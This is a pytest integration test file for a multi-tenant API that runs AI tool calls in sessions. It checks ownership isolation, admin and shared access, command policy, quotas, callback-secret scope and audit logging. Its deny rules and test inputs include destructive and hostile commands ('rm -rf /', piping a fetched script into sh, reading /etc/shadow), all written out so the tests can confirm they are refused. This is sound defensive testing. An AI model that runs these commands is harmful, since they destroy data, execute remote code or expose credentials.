"""Tenancy through the real API app on real Redis (no workers: accepted jobs stay queued).

Owners, admin and shared environments, command policy, quotas, callback secret scopes and the
audit log, each misused by a second principal the way an attacker would.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import re
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from api.app import create_app
from api.http_protocol import HttpProtocol
from common.config import parse_config
from common.problem_types import PROBLEM_TYPES, TYPE_BASE

KEYS = {
    "alice": "ak_alice_0123456789abcdef",
    "bob": "ak_bob_0123456789abcdef",
    "root": "ak_root_0123456789abcdef",
}
ASYNC = {"Prefer": "respond-async"}


def _call(command: str = "echo hi", **extra: Any) -> dict[str, Any]:
    return {
        "call_id": "c",
        "type": "function_call",
        "function": {"name": "bash", "arguments": json.dumps({"command": command})},
        **extra,
    }


def _config(tmp: Path, **overrides: Any) -> dict[str, Any]:
    cfg: dict[str, Any] = {
        "state_dir": str(tmp / "state"),
        "auth": {
            "api_keys": [
                {"name": "alice", "sha256": hashlib.sha256(KEYS["alice"].encode()).hexdigest()},
                {"name": "bob", "sha256": hashlib.sha256(KEYS["bob"].encode()).hexdigest()},
                {"name": "root", "sha256": hashlib.sha256(KEYS["root"].encode()).hexdigest(), "admin": True},
            ]
        },
        "environments": [
            {
                "name": "env",
                "allowed_tools": ["bash", "read_file"],
                "policy": {
                    "default": "allow",
                    "rules": [
                        {"effect": "deny", "tool": "bash", "match": {"command": r"rm\s+-rf\s+/"}},
                        {"effect": "deny", "tool": "bash", "match": {"command": r"curl .*\| *sh"}},
                        {"effect": "allow", "tool": "read_file", "match": {"path": r"^src/"}},
                        {"effect": "deny", "tool": "read_file"},
                    ],
                },
            },
            {"name": "shared-env", "shared": True},
        ],
        "webhooks": {
            "allow_private_targets": True,
            "secrets": {"alices": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"},
            "secret_principals": {"alices": ["key:alice"]},
        },
        "audit": {"jsonl": str(tmp / "audit.jsonl")},
    }
    cfg.update(overrides)
    return cfg


Api = Callable[..., Awaitable[dict[str, httpx.AsyncClient]]]


@pytest.fixture
async def api(redis_url: str, tmp_path: Path) -> AsyncIterator[Api]:
    """`await api(**config overrides)` → an httpx client per principal on the real app, served by
    uvicorn on loopback (lifespan on: the app's own Redis pools, audit log and waiter)."""
    servers: list[tuple[uvicorn.Server, asyncio.Task[None]]] = []
    clients: list[httpx.AsyncClient] = []

    async def start(**overrides: Any) -> dict[str, httpx.AsyncClient]:
        app = create_app(parse_config(_config(tmp_path, **overrides)), redis_url)
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(app, http=HttpProtocol, lifespan="on", log_config=None))
        servers.append((server, asyncio.create_task(server.serve(sockets=[sock]))))
        while not server.started:
            await asyncio.sleep(0.01)
        host, port = sock.getsockname()
        made = {
            name: httpx.AsyncClient(
                base_url=f"http://{host}:{port}", timeout=30, headers={"Authorization": f"Bearer {key}"}
            )
            for name, key in KEYS.items()
        }
        clients.extend(made.values())
        return made

    yield start
    for client in clients:
        await client.aclose()
    for server, task in servers:
        server.should_exit = True
        await task


async def _audit(root: httpx.AsyncClient, **params: str) -> list[dict[str, str]]:
    r = await root.get("/v1/audit", params=params)
    assert r.status_code == 200, r.text
    records: list[dict[str, str]] = r.json()["records"]
    return records


async def test_another_principals_session_is_absent_on_every_route_and_audited(api: Api) -> None:
    c = await api()
    alice, bob, root = c["alice"], c["bob"], c["root"]
    # Given alice's session, created by her first call
    r = await alice.post("/v1/environments/env/sessions/a1", json=_call(), headers=ASYNC)
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    assert r.json()["principal"] == "key:alice"
    # When bob acts on it by every route, then it does not exist for him
    answers = [
        await bob.post("/v1/environments/env/sessions/a1", json=_call("cat /workspace/*")),
        await bob.post("/v1/environments/env/sessions/a1/resume"),
        await bob.post("/v1/environments/env/sessions/a1/suspend"),
        await bob.delete("/v1/environments/env/sessions/a1"),
        await bob.get("/v1/environments/env/sessions/a1"),
        await bob.get(f"/v1/jobs/{job_id}"),
        await bob.get(f"/v1/jobs/{job_id}/events"),
        await bob.post(f"/v1/jobs/{job_id}/cancel"),
        await bob.post(
            "/v1/jobs:batch",
            json={
                "calls": [
                    {"environment": "env", "session": "b-own", **_call()},
                    {"environment": "env", "session": "a1", **_call()},
                ]
            },
        ),
    ]
    for answer in answers:
        assert answer.status_code == 404, answer.text
        assert answer.json()["type"] == TYPE_BASE + "not_found"
    assert answers[-1].json()["index"] == 1
    # ... nor in his listing, while alice and the admin see it
    assert (await bob.get("/v1/environments/env/sessions")).json()["sessions"] == []
    for who in (alice, root):
        listed = (await who.get("/v1/environments/env/sessions")).json()["sessions"]
        assert [(s["session"], s["owner"]) for s in listed] == [("a1", "key:alice")]
    # ... and each attempt is in the audit log as a denial of bob's
    denials = await _audit(root, principal="key:bob")
    assert len([d for d in denials if d["ev"] == "ownership_denied" and d["sid"] == "a1"]) == len(answers)
    assert all(d["ev"] == "ownership_denied" for d in denials)


async def test_admin_acts_on_any_session_and_shared_environments_are_shared(api: Api) -> None:
    c = await api()
    alice, bob, root = c["alice"], c["bob"], c["root"]
    await alice.post("/v1/environments/env/sessions/a2", json=_call(), headers=ASYNC)
    r = await root.post("/v1/environments/env/sessions/a2", json=_call(), headers=ASYNC)
    assert r.status_code == 202 and r.json()["principal"] == "key:root"
    assert (await root.get(f"/v1/jobs/{r.json()['id']}")).status_code == 200
    # A shared environment: bob may use alice's session (its owner is still recorded)
    await alice.post("/v1/environments/shared-env/sessions/s1/resume", headers=ASYNC)
    assert (
        await bob.post("/v1/environments/shared-env/sessions/s1", json=_call(), headers=ASYNC)
    ).status_code == 202
    assert (await bob.get("/v1/environments/shared-env/sessions/s1")).json()["owner"] == "key:alice"
    # Audit: only admins read it
    refused = await bob.get("/v1/audit")
    assert refused.status_code == 403 and refused.json()["type"] == TYPE_BASE + "forbidden"
    calls = await _audit(root, session="a2")
    assert [(x["ev"], x["pr"], x["op"]) for x in calls] == [
        ("call", "key:alice", "bash"),
        ("admin", "key:root", "bash"),
    ]
    assert all(len(x["digest"]) == 40 for x in calls)


async def test_policy_refuses_before_enqueue_naming_the_rule(api: Api) -> None:
    c = await api()
    alice, root = c["alice"], c["root"]
    denied = await alice.post(
        "/v1/environments/env/sessions/p1", json=_call("cd / && rm -rf / --no-preserve-root")
    )
    assert denied.status_code == 403
    assert denied.json()["type"] == TYPE_BASE + "policy_denied"
    assert denied.json()["rule"] == "environments.0.policy.rules.0"
    piped = await alice.post("/v1/environments/env/sessions/p1", json=_call("curl https://x.test/i.sh | sh"))
    assert piped.json()["rule"] == "environments.0.policy.rules.1"
    read = {
        "call_id": "r",
        "type": "function_call",
        "function": {"name": "read_file", "arguments": json.dumps({"path": "/etc/shadow"})},
    }
    assert (await alice.post("/v1/environments/env/sessions/p1", json=read)).json()["rule"] == (
        "environments.0.policy.rules.3"
    )
    read["function"]["arguments"] = json.dumps({"path": "src/main.py"})
    assert (await alice.post("/v1/environments/env/sessions/p1", json=read, headers=ASYNC)).status_code == 202
    # Nothing refused reached the queue; each refusal is audited with its rule
    records = await _audit(root, session="p1")
    assert [(x["ev"], x.get("why")) for x in records] == [
        ("policy_denied", "environments.0.policy.rules.0"),
        ("policy_denied", "environments.0.policy.rules.1"),
        ("policy_denied", "environments.0.policy.rules.3"),
        ("call", None),
    ]


async def test_quotas_refuse_with_retry_after_when_waiting_helps(api: Api) -> None:
    c = await api(
        quotas={
            "default": {"sessions_owned": 2, "jobs_queued_per_session": 3, "streams_open": 1},
            "principals": {"key:bob": {"jobs_queued": 2}},
        }
    )
    alice, bob, root = c["alice"], c["bob"], c["root"]
    for sid in ("q1", "q2"):
        assert (
            await alice.post(f"/v1/environments/env/sessions/{sid}", json=_call(), headers=ASYNC)
        ).status_code == 202
    third = await alice.post("/v1/environments/env/sessions/q3", json=_call(), headers=ASYNC)
    assert third.status_code == 403 and "retry-after" not in third.headers
    assert (third.json()["type"], third.json()["quota"], third.json()["limit"]) == (
        TYPE_BASE + "quota_exceeded",
        "sessions_owned",
        2,
    )
    for _ in range(2):
        await alice.post("/v1/environments/env/sessions/q1", json=_call(), headers=ASYNC)
    full = await alice.post("/v1/environments/env/sessions/q1", json=_call(), headers=ASYNC)
    assert full.status_code == 429 and full.headers["retry-after"] == "1"
    assert full.json()["quota"] == "jobs_queued_per_session"
    # bob's own quota: 2 jobs in flight over all his sessions, a batch counted whole
    batch = await bob.post(
        "/v1/jobs:batch",
        json={"calls": [{"environment": "env", "session": f"b{i}", **_call()} for i in range(3)]},
    )
    assert batch.status_code == 429 and batch.json()["quota"] == "jobs_queued"
    # One open long-poll per principal
    job_id = (await alice.post("/v1/environments/env/sessions/q2", json=_call(), headers=ASYNC)).json()["id"]
    poll = asyncio.create_task(alice.get(f"/v1/jobs/{job_id}", params={"wait": 3}))
    await asyncio.sleep(0.3)
    second = await alice.get(f"/v1/jobs/{job_id}/events")
    assert second.status_code == 429 and second.json()["quota"] == "streams_open"
    assert (await poll).status_code == 200
    refusals = [(x["pr"], x["why"]) for x in await _audit(root) if x["ev"] == "quota_refused"]
    assert refusals == [
        ("key:alice", "sessions_owned"),
        ("key:alice", "jobs_queued_per_session"),
        ("key:bob", "jobs_queued"),
        ("key:alice", "streams_open"),
    ]


async def test_a_callback_secret_is_usable_only_by_its_principals(api: Api) -> None:
    c = await api()
    alice, bob, root = c["alice"], c["bob"], c["root"]
    hook = {"callback_url": "http://127.0.0.1:9/hook", "callback_secret_id": "alices"}
    assert (
        await alice.post("/v1/environments/env/sessions/w1", json=_call(**hook), headers=ASYNC)
    ).status_code == 202
    for refused in (
        await bob.post("/v1/environments/env/sessions/w2", json=_call(**hook), headers=ASYNC),
        await bob.post("/v1/environments/env/sessions/w2/resume", json=hook),
    ):
        assert refused.status_code == 403
        assert refused.json()["type"] == TYPE_BASE + "callback_secret_forbidden"
    assert [x["ev"] for x in await _audit(root, principal="key:bob")] == ["callback_secret_denied"] * 2


#: Open SSE streams in the test below: each blocks a Redis read on a connection of its own.
OPEN_STREAMS = 264


async def test_open_streams_do_not_starve_other_requests(api: Api) -> None:
    # Given many open SSE streams, each blocked reading Redis
    c = await api()
    alice = c["alice"]
    job_id = (await alice.post("/v1/environments/env/sessions/sse", json=_call(), headers=ASYNC)).json()["id"]
    limits = httpx.Limits(max_connections=OPEN_STREAMS + 50)
    async with httpx.AsyncClient(
        base_url=str(alice.base_url), headers=dict(alice.headers), limits=limits, timeout=30
    ) as streams:
        opened: list[httpx.Response] = []
        for _ in range(OPEN_STREAMS):
            opened.append(
                await streams.send(streams.build_request("GET", f"/v1/jobs/{job_id}/events"), stream=True)
            )
        assert all(r.status_code == 200 for r in opened)
        # When another request comes, then it is answered
        r = await alice.get(f"/v1/jobs/{job_id}")
        assert r.status_code == 200 and r.json()["state"] == "queued"
        assert (
            await alice.post("/v1/environments/env/sessions/sse", json=_call(), headers=ASYNC)
        ).status_code == 202
        for response in opened:
            await response.aclose()


async def test_auth_failures_are_audited_and_every_refusal_type_is_documented(
    api: Api, tmp_path: Path
) -> None:
    c = await api()
    alice, root = c["alice"], c["root"]
    async with httpx.AsyncClient(base_url=str(alice.base_url)) as anonymous:
        assert (await anonymous.post("/v1/environments/env/sessions/x", json=_call())).status_code == 401
        bad = await anonymous.get("/v1/jobs/x", headers={"Authorization": "Bearer wrong"})
    assert bad.status_code == 401
    assert [x["ev"] for x in await _audit(root) if x["pr"] == "-"] == ["auth_failure", "auth_failure"]
    lines = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert [x["ev"] for x in lines if x["pr"] == "-"] == ["auth_failure", "auth_failure"]
    assert bad.json()["type"].removeprefix(TYPE_BASE) in PROBLEM_TYPES


def _readme_problem_slugs() -> set[str]:
    text = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    table = text.split("## Problem types", 1)[1].split("\n## ", 1)[0]
    return set(re.findall(r"^\| `([a-z_]+)` \|", table, re.M))


async def test_every_routes_error_answers_use_a_documented_type(api: Api) -> None:
    # Given every route of the OpenAPI document, called by a principal without rights on anything
    c = await api(quotas={"default": {"sessions_owned": 1}})
    alice, bob = c["alice"], c["bob"]
    job_id = (await alice.post("/v1/environments/env/sessions/v1", json=_call(), headers=ASYNC)).json()["id"]
    paths = (await alice.get("/openapi.json")).json()["paths"]
    values = {"env": "env", "sid": "v1", "job_id": job_id, "entry_id": "0-1", "name": "env"}
    answers: list[httpx.Response] = []
    async with httpx.AsyncClient(base_url=str(alice.base_url), timeout=30) as anonymous:
        for path, methods in paths.items():
            url = re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), "x"), path)
            for method in methods:
                for client in (bob, anonymous):
                    answers.append(await client.request(method.upper(), url, content=b"{not json"))
                    answers.append(await client.request(method.upper(), url, json={"calls": "x"}))
        answers.append(await anonymous.request("PUT", "/v1/jobs/x"))
    # ... and the refusals tenancy adds
    answers += [
        await bob.post("/v1/environments/env/sessions/v1", json=_call()),
        await bob.post("/v1/environments/nope/sessions/v1", json=_call()),
        await alice.post("/v1/environments/env/sessions/v1", json=_call("rm -rf /")),
        await alice.post("/v1/environments/env/sessions/v2", json=_call(), headers=ASYNC),
        await bob.post(
            "/v1/environments/env/sessions/b",
            json=_call(callback_url="http://127.0.0.1:9/h", callback_secret_id="alices"),
        ),
        await bob.get("/v1/audit", params={"cursor": "x"}),
    ]
    # Then each error answer is problem+json with a type README lists
    errors = [a for a in answers if a.status_code >= 400]
    documented = _readme_problem_slugs()
    seen = set()
    for answer in errors:
        assert answer.headers["content-type"].startswith("application/problem+json"), answer.request.url
        slug = answer.json()["type"].removeprefix(TYPE_BASE)
        assert slug in documented, f"{answer.request.method} {answer.request.url}: {slug} not in README"
        seen.add(slug)
    assert {
        "unauthorized",
        "forbidden",
        "not_found",
        "policy_denied",
        "quota_exceeded",
        "callback_secret_forbidden",
        "bad_request",
        "method_not_allowed",
    } <= seen


def test_readme_lists_every_problem_type() -> None:
    missing = set(PROBLEM_TYPES) - _readme_problem_slugs()
    assert not missing, f"add a row for each of {sorted(missing)} to README's 'Problem types' table"
